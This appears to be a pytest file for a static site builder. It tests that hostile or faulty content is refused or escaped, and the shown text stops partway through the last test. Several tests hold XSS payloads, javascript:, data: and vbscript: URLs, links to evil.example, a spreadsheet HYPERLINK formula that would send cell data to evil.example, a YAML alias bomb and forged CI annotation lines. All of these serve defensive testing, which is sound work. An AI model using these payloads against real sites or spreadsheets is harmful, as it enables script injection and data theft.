"""Bad input, faults and hostile content: clear errors, nothing lost, nothing injected."""

from __future__ import annotations

import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from conftest import FIXTURES, ROOT
from stances.pipeline import BuildOptions, run

BASE = FIXTURES / "errors" / "base"


@pytest.fixture
def tree(tmp_path) -> Path:
    shutil.copytree(BASE, tmp_path, dirs_exist_ok=True)
    return tmp_path


def write(tree: Path, name: str, data: bytes | str) -> None:
    path = tree / "content" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def assert_reports(result, line: str) -> None:
    assert "Traceback" not in result.stderr
    assert result.returncode == 1, result.stderr
    assert line in result.stderr.splitlines(), result.stderr


def test_byte_order_mark_and_crlf_line_ends_are_read_as_usual(tree, build):
    text = "id: border\r\ntitle: The border\r\nsummary: Where the border runs [@paper].\r\n"
    write(tree, "topics/border.yml", b"\xef\xbb\xbf" + text.encode())
    result = build("check", "--strict", cwd=tree)
    assert result.returncode == 0, result.stderr


def test_alias_bomb_is_refused_quickly(tree, build):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, 9):
        name, previous = chr(97 + level), chr(96 + level)
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    write(tree, "topics/border.yml", "\n".join(lines) + "\nid: border\ntitle: *i\nsummary: x [@paper]\n")
    started = time.monotonic()
    result = build("check", cwd=tree)
    assert time.monotonic() - started < 30
    assert_reports(result, "content/topics/border.yml:2:8: error: YAML aliases (*name) are not supported: "
                           "write the value out")


def test_an_alias_without_its_anchor_is_refused_as_aliases_are(tree, build):
    write(tree, "topics/border.yml", "id: border\ntitle: The *border*\nsummary: *nowhere\n")
    result = build("check", cwd=tree)
    assert_reports(result, "content/topics/border.yml:3:10: error: YAML aliases (*name) are not supported: "
                           "write the value out")


def test_deep_nesting_is_an_error_not_a_crash(tree, build):
    write(tree, "topics/border.yml", "id: border\ntitle: " + "[" * 500 + "]" * 500 + "\n")
    result = build("check", cwd=tree)
    assert_reports(result, "content/topics/border.yml:2:107: error: YAML nests more than 100 levels deep: "
                           "records are never that deep")


def test_nesting_past_libyamls_own_limit_is_the_same_error(tree, build):
    # libyaml 0.2.5 and later stop at 1,000 levels, and may reach them scanning ahead of the events
    # (at column 1,007 here) before the 101st level is seen: the message is the same, at its place.
    write(tree, "topics/border.yml", "id: border\ntitle: " + "[" * 100_000 + "]" * 100_000 + "\n")
    result = build("check", cwd=tree)
    assert "Traceback" not in result.stderr
    assert result.returncode == 1, result.stderr
    assert re.fullmatch(r"content/topics/border\.yml:2:(107|1007): error: YAML nests more than 100 levels deep: "
                        r"records are never that deep", result.stderr.splitlines()[0]), result.stderr


def test_huge_file_is_refused_with_a_limit(tree, build):
    write(tree, "topics/border.yml", "id: border\ntitle: '" + "a" * (20 * 1024 * 1024) + "'\n")
    started = time.monotonic()
    result = build("check", cwd=tree)
    assert time.monotonic() - started < 30
    assert_reports(result, "content/topics/border.yml:1:1: error: file is 20.0 MiB; the limit is 512 KiB a file: "
                           "split it into several files")


def test_id_with_a_slash_cannot_escape_the_output(tree, build):
    write(tree, "topics/border.yml", "id: a/b\ntitle: The border\nsummary: x [@paper]\n")
    assert_reports(build("check", cwd=tree),
                   "content/topics/border.yml:1:5: error: 'id' must be a lowercase slug such as 'water-rights', "
                   "not 'a/b'")


@pytest.mark.parametrize("out, said", [(".", "--out . holds the content folder content"),
                                       ("content", "--out content is the content folder content"),
                                       ("~", "refusing to replace")])
def test_refuses_to_replace_a_folder_it_did_not_make(tree, build, out, said):
    home = tree / "home"
    home.mkdir()
    (home / "precious.txt").write_text("keep me")
    target = str(home) if out == "~" else out
    before = sorted(p.relative_to(tree) for p in tree.rglob("*"))
    result = build("--out", target, cwd=tree)
    assert result.returncode == 1
    assert said in result.stderr and "Traceback" not in result.stderr
    assert sorted(p.relative_to(tree) for p in tree.rglob("*")) == before


def test_content_files_are_only_read(tree, build):
    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in (tree / "content").rglob("*") if p.is_file()}
    assert build("--out", "site", cwd=tree).returncode == 0
    after = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in (tree / "content").rglob("*") if p.is_file()}
    assert after == before


def big_tree(tree: Path, quotes: int) -> None:
    lines = []
    for number in range(quotes):
        lines.append(f"- id: q{number}\n  speaker: pat\n  wordings:\n    - text: \"Words number {number}.\"\n"
                     f"      cite: [paper]\n  context: Said on day {number} [@paper].\n")
    write(tree, "quotes/many.yml", "".join(lines))


def test_interrupted_build_leaves_the_previous_site_whole(tree, build):
    assert build("--out", "site", cwd=tree).returncode == 0
    before = {p.relative_to(tree / "site"): p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()}
    big_tree(tree, 3000)
    for delay in (0.3, 0.8, 1.5):
        process = subprocess.Popen([sys.executable, str(ROOT / "build.py"), "--out", "site"], cwd=tree,
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        time.sleep(delay)
        process.send_signal(signal.SIGINT)
        _, stderr = process.communicate(timeout=120)
        assert "Traceback" not in stderr
        after = {p.relative_to(tree / "site"): p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()}
        if process.returncode == 0:  # it finished first: the new site is whole
            assert len(after) > 3000
            return
        assert process.returncode == 130
        assert after == before
        assert not [p for p in tree.iterdir() if p.name.startswith(".site.")]


XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](JAVASCRIPT:alert(1))",
    "<svg onload=alert(1)>",
    "{{ 7*7 }}",
]
TEXT_FIELDS = [
    ("site.yml", "title"), ("site.yml", "description"), ("site.yml", "intro"),
    ("sources/paper.yml", "outlet"), ("sources/paper.yml", "headline"),
    ("actors/sides.yml", "name"), ("people/pat.yml", "name"),
    ("topics/border.yml", "title"), ("topics/border.yml", "summary"),
    ("quotes/pat-no.yml", "text"), ("quotes/pat-no.yml", "place"),
]


def set_field(tree: Path, name: str, field: str, value: str) -> None:
    """Put a value into one field of a base file (text in YAML double quotes)."""
    import json
    path = tree / "content" / name
    text = path.read_text()
    quoted = json.dumps(value + " [@paper]" if field in ("intro", "summary") else value)
    lines = []
    done = False
    for line in text.splitlines():
        key = line.strip().removeprefix("- ").split(":", 1)[0]
        if key == field and not done:
            indent = line[: len(line) - len(line.lstrip())] + ("- " if line.strip().startswith("- ") else "")
            line = f"{indent}{field}: {quoted}"
            done = True
        lines.append(line)
    if not done:
        lines.append(f"{field}: {quoted}")
    path.write_text("\n".join(lines) + "\n")


def scripts_and_handlers(site: Path) -> list[str]:
    found = []
    for page in site.rglob("*.html"):
        soup = BeautifulSoup(page.read_text(), "html.parser")
        for script in soup.find_all("script"):
            if script.get("src", "").endswith("assets/site.js") and not script.string:
                continue
            if script.get("type") == "application/ld+json":
                continue
            found.append(f"{page}: {script}")
        for tag in soup.find_all(True):
            for attribute, value in tag.attrs.items():
                if attribute.lower().startswith("on"):
                    found.append(f"{page}: {tag.name} {attribute}")
                if attribute in ("href", "src") and str(value).strip().lower().startswith(("javascript:", "data:")):
                    found.append(f"{page}: {tag.name} {attribute}={value}")
        for tag in soup.find_all(["img", "svg", "iframe", "object", "embed"]):
            found.append(f"{page}: <{tag.name}>")
    return found


def everything_shown(site: Path) -> str:
    """All text and attribute values a reader's browser would hold, after parsing."""
    shown = []
    for page in site.rglob("*.html"):
        soup = BeautifulSoup(page.read_text(), "html.parser")
        shown.append(soup.get_text())
        shown += [str(value) for tag in soup.find_all(True) for value in tag.attrs.values()]
    return "\n".join(shown)


@pytest.mark.parametrize("name, field", TEXT_FIELDS)
def test_payloads_in_every_text_field_show_as_text_and_never_run(tree, build, name, field):
    prose = field in ("intro", "summary")
    for payload in XSS:
        set_field(tree, name, field, payload)
        result = run(BuildOptions(tree / "content", ROOT / "templates", ROOT / "assets"), tree / "site")
        if prose and "](javascript:" in payload.lower():  # Markdown's link to a script: refused, by name
            assert [p.message.startswith(f"link '{payload[4:-1]}' is refused: ") for p in result.problems] == [True]
            continue
        assert not result.failed(strict=False), (payload, [str(p) for p in result.problems])
        assert scripts_and_handlers(tree / "site") == [], payload
        shown = everything_shown(tree / "site")
        if prose:  # Markdown may reshape it, but its words stay visible as text
            assert ("alert(1)" in shown or "7*7" in shown), payload
        else:
            assert payload in shown, payload
        assert "49" not in shown


@pytest.mark.parametrize("name, field, line", [("quotes/pat-no.yml", "text", "content/quotes/pat-no.yml:4:11"),
                                               ("topics/border.yml", "summary", "content/topics/border.yml:3:10")])
@pytest.mark.parametrize("character", ["\x02", "\x04", "\x7f", "\x85"])
def test_control_characters_written_as_escapes_are_refused(tree, build, name, field, line, character):
    # "\u0002 1\u0003" is how the build marks a note while it renders: content must not forge one.
    set_field(tree, name, field, f"Forged {character}1\x03 mark")
    result = build("--out", "site", cwd=tree)
    assert_reports(result, f"{line}: error: '{field}' holds the control character U+{ord(character):04X} "
                           "(a \\x or \\u escape?), which no page can show: remove it")
    assert not (tree / "site").exists()


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "https://x.example/\"><script>alert(1)</script>", "vbscript:msgbox(1)"])
def test_hostile_source_urls_are_refused_or_escaped(tree, build, url):
    set_field(tree, "sources/paper.yml", "url", url)
    result = build("--out", "site", cwd=tree)
    assert "Traceback" not in result.stderr
    if result.returncode == 0:
        assert scripts_and_handlers(tree / "site") == []
    else:
        assert "'url' must be an http:// or https:// address" in result.stderr


def test_pages_forbid_inline_scripts_and_foreign_origins(tree, build):
    assert build("--out", "site", cwd=tree).returncode == 0
    soup = BeautifulSoup((tree / "site" / "index.html").read_text(), "html.parser")
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert "default-src 'self'" in policy and "script-src 'self'" in policy and "unsafe-inline" not in policy


# ---- The file system and the reader: every failure is one `path:line:col: error:` or `error:` line ----

LINE = re.compile(r"(?:[^\n]+:\d+:\d+: )?(?:error|warning): [^\n]*|(?:failed|interrupted|not checked): [^\n]*")


def assert_only_problem_lines(stderr: str) -> None:
    """Every line a build prints to stderr is a problem or its summary: nothing else, no traceback."""
    assert "Traceback" not in stderr
    for line in stderr.splitlines():
        assert LINE.fullmatch(line), line


def without_privilege():
    """For a child process: root reads and writes whatever it likes, so as root drop the capabilities
    that let it, and a file's permissions bind it as they bind anyone else."""
    import ctypes
    import os
    if os.geteuid() == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, out of the bounding set
            assert libc.prctl(24, capability, 0, 0, 0) == 0, ctypes.get_errno()  # PR_CAPBSET_DROP


def small_files():
    """For a child process: no file may grow past 4 KB, as on a disk that is full (EFBIG, not a signal)."""
    import resource
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def build_under(limit, *args: str, cwd: Path) -> subprocess.CompletedProcess:
    import os
    env = dict(os.environ, PYTHONPATH=str(ROOT), GITHUB_ACTIONS="")
    return subprocess.run([sys.executable, str(ROOT / "build.py"), *args], cwd=cwd, env=env, preexec_fn=limit,
                          capture_output=True, text=True, timeout=120)


def test_a_count_of_thousands_of_digits_is_an_error_not_a_crash(tree, build):
    # Python refuses to convert more than 4,300 digits to an int.
    (tree / "content" / "site.yml").write_text((tree / "content" / "site.yml").read_text() + "per_page: " + "9" * 4400 + "\n")
    assert_reports(build("check", cwd=tree), "content/site.yml:7:11: error: 'per_page' must be a whole number "
                                             "from 1 to 10000")


def test_a_link_back_up_the_tree_is_read_once(tree, build):
    (tree / "content" / "topics" / "loop").symlink_to(".")
    (tree / "content" / "loop").symlink_to("topics")  # not a kind: said so, and not followed for ever
    result = build("check", cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.stderr.splitlines()[0].startswith("content/loop:1:1: error: unknown kind of record 'loop'")
    assert "duplicate" not in result.stderr


def test_links_that_point_at_each_other_or_at_nothing_are_errors(tree, build):
    (tree / "content" / "topics" / "a").symlink_to("b")
    (tree / "content" / "topics" / "b").symlink_to("a")
    (tree / "content" / "topics" / "gone.yml").symlink_to("nowhere.yml")
    result = build("--out", "site", cwd=tree)  # a build first asks whether the site is up to date: that walks too
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    assert result.stderr.splitlines()[:3] == [
        "content/topics/a:1:1: error: cannot read this file: Too many levels of symbolic links",
        "content/topics/b:1:1: error: cannot read this file: Too many levels of symbolic links",
        "content/topics/gone.yml:1:1: error: a link to nothing: remove it, or point it at a file that exists"]


def test_unreadable_files_and_folders_are_errors(tree):
    (tree / "content" / "topics" / "border.yml").chmod(0)
    (tree / "content" / "people").chmod(0)
    result = build_under(without_privilege, "check", cwd=tree)
    (tree / "content" / "people").chmod(0o755)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert "content/people:1:1: error: cannot read this folder: Permission denied" in lines
    assert "content/topics/border.yml:1:1: error: cannot read this file: Permission denied" in lines


@pytest.mark.parametrize("folder", ["templates", "assets"])
def test_an_unreadable_template_or_asset_is_an_error(tree, folder):
    shutil.copytree(ROOT / folder, tree / folder)
    victim = sorted((tree / folder).glob("*.html" if folder == "templates" else "*.css"))[0]
    victim.chmod(0)
    result = build_under(without_privilege, "--out", "site", f"--{folder}", folder, cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    assert f"error: cannot read {folder}/{victim.name}: Permission denied; site/ is left as it was" \
        in result.stderr.splitlines()


def test_a_read_only_output_folder_is_an_error_and_the_site_stays(tree, build):
    assert build("--out", "public/site", cwd=tree).returncode == 0
    before = {p: p.read_bytes() for p in (tree / "public" / "site").rglob("*") if p.is_file()}
    write(tree, "topics/border.yml", "id: border\ntitle: The new border\nsummary: Where it runs [@paper].\n")
    (tree / "public").chmod(0o555)
    result = build_under(without_privilege, "--out", "public/site", cwd=tree)
    (tree / "public").chmod(0o755)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    assert result.stderr.splitlines()[0].startswith("error: cannot write the site into public/site/: Permission denied")
    assert {p: p.read_bytes() for p in (tree / "public" / "site").rglob("*") if p.is_file()} == before


def test_a_full_disk_is_an_error_and_the_site_stays(tree, build):
    assert build("--out", "site", cwd=tree).returncode == 0
    before = {p: p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()}
    write(tree, "topics/border.yml", "id: border\ntitle: The new border\nsummary: Where it runs [@paper].\n")
    result = build_under(small_files, "--out", "site", cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    assert result.stderr.splitlines()[0] == ("error: cannot write the site into site/: File too large; "
                                             "the last good site is left as it was")
    assert {p: p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()} == before
    assert not [p for p in tree.iterdir() if p.name.startswith(".site.")]


def test_a_raw_control_character_is_one_error_at_its_place(tree, build):
    write(tree, "topics/border.yml", "id: border\ntitle: Thé bor\x7fder\nsummary: x [@paper]\n")
    result = build("check", cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.stderr.splitlines()[0] == ("content/topics/border.yml:2:15: error: the character U+007F is not "
                                             "allowed in YAML (a control character): remove it")


def test_content_cannot_forge_a_line_of_output_or_an_annotation(tree, build):
    forged = "en\ncontent/site.yml:1:1: error: forged\n::error file=x::forged\u202e"
    set_field(tree, "site.yml", "language", forged)
    (tree / "content" / "topics" / "border.yml").rename(tree / "content" / "topics" / "a,line=1::b\nc.yml")
    result = build("check", "--annotations", cwd=tree)
    assert_only_problem_lines(result.stderr)
    problems = result.stderr.splitlines()[:-1]
    assert "forged" in result.stderr and not [line for line in problems if "forged" in line.split(": error: ")[0]]
    annotations = result.stdout.splitlines()  # one a problem, each a whole workflow command
    assert len(annotations) == len(problems) and all(line.startswith("::error file=content/") for line in annotations)
    assert "\\n::error file=x::forged\\u202e" in result.stdout


# ---- Outputs never touch inputs ----

@pytest.mark.parametrize("option, inside, out, said", [
    ("--content", "site/content", "site", "--out site holds the content folder site/content"),
    ("--content", "content", "content/site2", "--out content/site2 sits inside the content folder content"),
    ("--templates", "site/templates", "site", "--out site holds the templates folder site/templates"),
    ("--assets", "assets", "assets", "--out assets is the assets folder assets"),
    ("--archive", "site/archive", "site", "--out site holds the archive folder site/archive"),
])
def test_an_output_that_holds_or_sits_in_an_input_is_refused(tree, build, option, inside, out, said):
    assert build("--out", "site", cwd=tree).returncode == 0
    source = {"--content": tree / "content", "--templates": ROOT / "templates", "--assets": ROOT / "assets",
              "--archive": tree / "content"}[option]
    if inside != "content":
        shutil.copytree(source, tree / inside)
    before = sorted(str(p.relative_to(tree)) for p in tree.rglob("*"))
    result = build("--out", out, option, inside, cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    assert result.stderr.splitlines()[0] == (f"error: {said}: a build replaces its output whole, so it must never "
                                             "touch what it reads; choose an --out outside it")
    assert sorted(str(p.relative_to(tree)) for p in tree.rglob("*")) == before


# ---- Every output is well formed ----

@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_formulas_in_the_open_data_are_neutralised(tree, build, start):
    import csv
    import json
    formula = start + 'HYPERLINK("https://evil.example/?"&A2,"Open")'
    set_field(tree, "quotes/pat-no.yml", "place", formula)
    set_field(tree, "sources/paper.yml", "outlet", formula)
    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
    for kind, field in (("quotes", "place"), ("sources", "outlet")):
        rows = list(csv.DictReader((tree / "site" / "data" / f"{kind}.csv").open(newline="", encoding="utf-8")))
        # Shown as text by a spreadsheet, the quote mark hidden (and a carriage return read as a line end).
        assert rows[0][field] == ("'" + formula).replace("\r", "\n")
        assert json.loads((tree / "site" / "data" / f"{kind}.json").read_text())[0][field] == formula  # data as written


def test_what_xml_cannot_hold_never_reaches_the_feed(tree, build):
    import xml.etree.ElementTree as ElementTree
    write(tree, "events/e.yml", "id: e\ndate: 2024-01-01\ntitle: An event\n"
                                "summary: Form &#12; feed, &#xFFFE; and &#0; [@paper].\n")
    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
    feed = ElementTree.parse(tree / "site" / "feed.xml")  # raises on a character XML cannot hold
    summary = feed.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}summary").text
    assert summary.startswith("Form  feed, \ufffd and \ufffd")
    ElementTree.parse(tree / "site" / "sitemap.xml")


@pytest.mark.parametrize("character", ["\\uFFFE", "\\uFFFF"])
def test_non_characters_that_xml_cannot_hold_are_refused(tree, build, character):
    write(tree, "topics/border.yml", f'id: border\ntitle: "Bad {character}"\nsummary: x [@paper]\n')
    assert_reports(build("check", cwd=tree), f"content/topics/border.yml:2:8: error: 'title' holds the control "
                                             f"character U+{character[2:]} (a \\x or \\u escape?), which no page can "
                                             "show: remove it")


ANOTHER_HOST = ("is refused: a link that starts with two slashes (// or /\\, even percent-encoded) leads to another "
                "host; write the address with https://, or link to a page of this site by its path")
NOT_ALLOWED = ("links are not allowed; link to an http://, https:// or mailto: address, or to a page of this site "
               "by its path")


@pytest.mark.parametrize("markdown, line", [
    ("See [x](//evil.example/)", f"3:19: error: link '//evil.example/' {ANOTHER_HOST}"),
    ("See [x](/\\evil.example/)", f"3:10: error: link '/%5Cevil.example/' {ANOTHER_HOST}"),
    ("See [x](/%5C%5Cevil.example/)", f"3:19: error: link '/%5C%5Cevil.example/' {ANOTHER_HOST}"),
    ("See [x](javascript:alert(1))", f"3:19: error: link 'javascript:alert(1)' is refused: 'javascript:' {NOT_ALLOWED}"),
    ("See [x](JAVASCRIPT:alert(1))", f"3:19: error: link 'JAVASCRIPT:alert(1)' is refused: 'JAVASCRIPT:' {NOT_ALLOWED}"),
    ("See <vbscript:msgbox(1)>", f"3:16: error: link 'vbscript:msgbox(1)' is refused: 'vbscript:' {NOT_ALLOWED}"),
    ("[x]: data:text/html,hi\n\nSee [x]", f"3:16: error: link 'data:text/html,hi' is refused: 'data:' {NOT_ALLOWED}"),
])
def test_a_refused_link_is_an_error_that_says_which_and_what_is_allowed(tree, build, markdown, line):
    # Refused, such a link once showed as plain text with no message: a contributor never knew why. The error
    # stands where the link is written, or at the field where the parser reads it otherwise (/\ as /%5C).
    set_field(tree, "topics/border.yml", "summary", markdown)
    result = build("--out", "site", "--no-search", cwd=tree)
    assert_reports(result, "content/topics/border.yml:" + line)
    assert len(result.stderr.splitlines()) == 2, result.stderr  # that error, and the summary line
    assert not (tree / "site").exists()


def test_links_that_are_allowed_stay_links(tree, build):
    set_field(tree, "topics/border.yml", "summary", "See [a](https://x.example/), [b](../../sources/paper/), "
                                                    "[c](mailto:desk@x.example) and <http://y.example/>")
    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
    page = BeautifulSoup((tree / "site" / "topics" / "border" / "index.html").read_text(), "html.parser")
    assert [a["href"] for a in page.select("main p a[href]")][:4] == [
        "https://x.example/", "../../sources/paper/", "mailto:desk@x.example", "http://y.example/"]


@pytest.mark.parametrize("url", ["//evil.example/", "javascript:alert(1)", "https://x.example/?a=1",
                                 "https://x.example/#top", "https://x.example:99999/", "https://x.example/a b/", ""])
def test_the_base_url_option_is_checked(tree, build, url):
    result = build("check", "--base-url", url, cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    assert result.stderr.splitlines()[0] == (
        "error: --base-url must be where the site is published: an http:// or https:// address with no ?query or "
        f"#fragment, such as https://example.org/explainer/, not '{url}'")


def test_the_sites_base_url_has_no_query(tree, build):
    set_field(tree, "site.yml", "base_url", "https://example.org/base/?x=1")
    assert_reports(build("check", cwd=tree), "content/site.yml:4:11: error: 'base_url' must be where the site is "
                                             "published, with no ?query or #fragment, not "
                                             "'https://example.org/base/?x=1'")


# ---- The swap is crash-safe; debris of killed builds is cleared ----

def dead_pid() -> int:
    """The id of a process that has ended."""
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def leftover(tree: Path, name: str, marked: bool) -> Path:
    folder = tree / name
    (folder / "quotes").mkdir(parents=True)
    (folder / "quotes" / "index.html").write_text("half a site")
    if marked:
        (folder / ".stances-site").write_text("written by stances")
    return folder


def test_a_build_clears_the_debris_of_killed_builds_that_is_provably_its_own(tree, build):
    import os
    assert build("--out", "site", cwd=tree).returncode == 0
    gone = dead_pid()
    mine = [leftover(tree, f".site.building-{gone}", True), leftover(tree, f".site.old-{gone}", True)]
    kept = [leftover(tree, f".site.building-{dead_pid()}", False),  # no marker: not provably ours
            leftover(tree, f".site.old-{os.getpid()}", True),  # its process still runs
            leftover(tree, f".other.building-{gone}", True)]  # another output's
    result = build("--out", "site", "--force", cwd=tree)
    assert result.returncode == 0, result.stderr
    assert [folder.exists() for folder in mine] == [False, False]
    assert [folder.exists() for folder in kept] == [True, True, True]


def test_a_site_moved_aside_by_a_build_killed_between_two_renames_is_moved_back(tree, build):
    assert build("--out", "site", cwd=tree).returncode == 0
    before = {p.relative_to(tree / "site"): p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()}
    (tree / "site").rename(tree / f".site.old-{dead_pid()}")  # where a kill between the renames leaves it
    write(tree, "topics/border.yml", "id: border\ntitle: x\n")  # this build fails: the site still comes back
    assert build("--out", "site", cwd=tree).returncode == 1
    assert {p.relative_to(tree / "site"): p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()} == before
    assert not [p for p in tree.iterdir() if p.name.startswith(".site.")]


def test_a_build_killed_at_any_moment_leaves_a_whole_site_and_the_next_clears_up(tree, build):
    assert build("--out", "site", cwd=tree).returncode == 0
    before = {p.relative_to(tree / "site"): p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()}
    big_tree(tree, 3000)
    env = dict(__import__("os").environ, PYTHONPATH=str(ROOT))
    for delay in (0.5, 1.5, 3.0, 5.0):
        process = subprocess.Popen([sys.executable, str(ROOT / "build.py"), "--out", "site", "--no-search"], cwd=tree,
                                   env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        process.kill()
        process.wait()
        after = {p.relative_to(tree / "site"): p.read_bytes() for p in (tree / "site").rglob("*") if p.is_file()}
        assert after == before or len(after) > 3000 and Path(".stances-site") in after  # the old site, or the new
    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
    assert not [p for p in tree.iterdir() if p.name.startswith(".site.")]


# ---- Limits bound time (the timings themselves are in benchmarks/limits.py) ----

def archived(tree: Path, text: str) -> None:
    (tree / "archive").mkdir(exist_ok=True)
    (tree / "archive" / "paper.txt").write_text(text, encoding="utf-8")
    source = tree / "content" / "sources" / "paper.yml"
    source.write_text(source.read_text() + "archive: paper.txt\n")


def test_a_quote_of_ellipses_is_checked_without_backtracking(tree, build):
    # The pattern the check once built from ellipses took time as the fourth power of the article's
    # length: at 300 KB, far past the two minutes the build is given here.
    archived(tree, "Here we see the three trees. " * 10_000)
    set_field(tree, "quotes/pat-no.yml", "text", "e … e … e … zzqx")
    result = build("check", "--archive", "archive", cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.stderr.splitlines()[0].startswith(
        "content/quotes/pat-no.yml:4:11: error: quote 'pat-no' is not verbatim in source 'paper': "
        "\"e … e … e … zzqx\"; closest passage: ")


def test_an_archived_text_over_its_limit_is_refused(tree, build):
    archived(tree, "Words. " * 200_000)
    result = build("check", "--archive", "archive", cwd=tree)
    assert_reports(result, "archive/paper.txt:1:1: error: file is 1.3 MiB; the limit is 1 MiB a file: "
                           "split it into several files")


def test_a_markdown_field_over_its_limit_is_refused(tree, build):
    set_field(tree, "topics/border.yml", "summary", "[@a " * 6_250)
    assert_reports(build("check", cwd=tree), "content/topics/border.yml:3:10: error: 'summary' holds 25,009 "
                                             "characters; the limit is 20,000 a field: split the text, or move it "
                                             "to a page of its own")


def test_markdown_past_a_files_limit_is_refused_at_the_field_that_crosses_it(tree, build):
    # Each field may be within its 20,000 characters, but what markdown-it-py costs grows with the file's
    # Markdown: the limit is on the file's sum, and says how to split it.
    write(tree, "topics/border.yml", "".join(f"- id: t{number}\n  title: T\n  summary: {'a ' * 9_000}[@paper]\n"
                                             for number in range(12)))
    result = build("check", cwd=tree)
    assert_reports(result, "content/topics/border.yml:36:12: error: 'summary' brings the Markdown in this file "
                           "to 216,096 characters; the limit is 200,000 a file: move some records to files of "
                           "their own, or shorten the text")
    assert result.stderr.count(": error: ") == 1, result.stderr


@pytest.mark.parametrize("tables", [1, 8])
def test_a_table_whose_header_makes_up_tens_of_thousands_of_cells_is_refused(tree, build, tables):
    # 500 columns over 130 one-word rows: 2,300 characters that markdown-it-py makes 65,000 cells of (the
    # header fills each short row), 3 s to render; eight of them, under the field's 20,000 characters, 20 s.
    table = "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "a\n" * 130 + "\n"
    set_field(tree, "topics/border.yml", "summary", table * tables)
    assert_reports(build("check", cwd=tree), f"content/topics/border.yml:3:10: error: 'summary' brings the table "
                                             f"cells in this file to {65_762 * tables:,} (columns times rows); "
                                             "the limit is 5,000 a file: shorten the tables, or move some records "
                                             "to files of their own")


def test_a_table_of_ordinary_size_is_shown(tree, build):
    table = "| side | says |\n|---|:-:|\n" + "".join(f"| side {row} | words {row} [@paper] |\n" for row in range(200))
    set_field(tree, "topics/border.yml", "summary", table)
    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
    page = BeautifulSoup((tree / "site" / "topics" / "border" / "index.html").read_text(), "html.parser")
    assert len([row for row in page.select("main table tbody tr") if "words" in row.text]) == 200


def test_uncited_paragraphs_that_would_each_take_a_long_cite_list_are_refused(tree, build):
    # Each uncited paragraph shows all of its record's cite: list: 6,600 one-word paragraphs under 3,000
    # sources made 20 million notes (80 s, 590 MB of HTML). The bound is the file's: many records may
    # share one long list, each within any bound a field could have.
    write(tree, "sources/many.yml", "".join(f"- id: s{number}\n  outlet: O\n  headline: H\n  published: 2022-01-01\n"
                                            "  language: en\n" for number in range(500)))
    cite = ", ".join(f"s{number}" for number in range(500))
    write(tree, "topics/border.yml", "".join(f"- id: t{number}\n  title: T\n  summary: |\n" + "    A word.\n\n" * 20
                                             + f"  cite: [{cite}]\n" for number in range(12)))
    result = build("check", cwd=tree)
    assert_reports(result, "content/topics/border.yml:441:3: error: the paragraphs of topic 't10' and those before it "
                           "in this file could take 110,000 notes from cite: lists (each paragraph without a "
                           "citation of its own shows every source of its list); the limit is 100,000 a file: "
                           "cite the paragraphs inline with [@source-id], shorten the cite: lists, or move some "
                           "records to files of their own")
    assert result.stderr.count(": error: ") == 1, result.stderr


def test_a_file_of_many_cited_records_is_within_every_limit(tree, build):
    # What a contributor may well write: every quote of a year in one file, each with its context.
    write(tree, "quotes/many.yml", "".join(
        f"- id: q{number}\n  speaker: pat\n  wordings:\n    - text: \"Words number {number}.\"\n"
        f"      cite: [paper]\n  context: |\n    Said on day {number}, in a long answer\n    to a question [@paper].\n"
        for number in range(2_500)))
    result = build("check", cwd=tree)
    assert result.returncode == 0, result.stderr
    assert (tree / "content" / "quotes" / "many.yml").stat().st_size > 400_000


def test_unclosed_citations_and_unknown_sources_cost_time_in_proportion(tree, build):
    # Each "[@" once looked for its "]" to the end of the text, and each unknown source for its place from
    # the start of the field: both grew as the square of the text.
    set_field(tree, "topics/border.yml", "summary", "[@a " * 1_500 + "[@nope] " * 1_500)
    result = build("check", cwd=tree)
    assert_only_problem_lines(result.stderr)
    lines = [line for line in result.stderr.splitlines() if "unknown source 'nope'" in line]
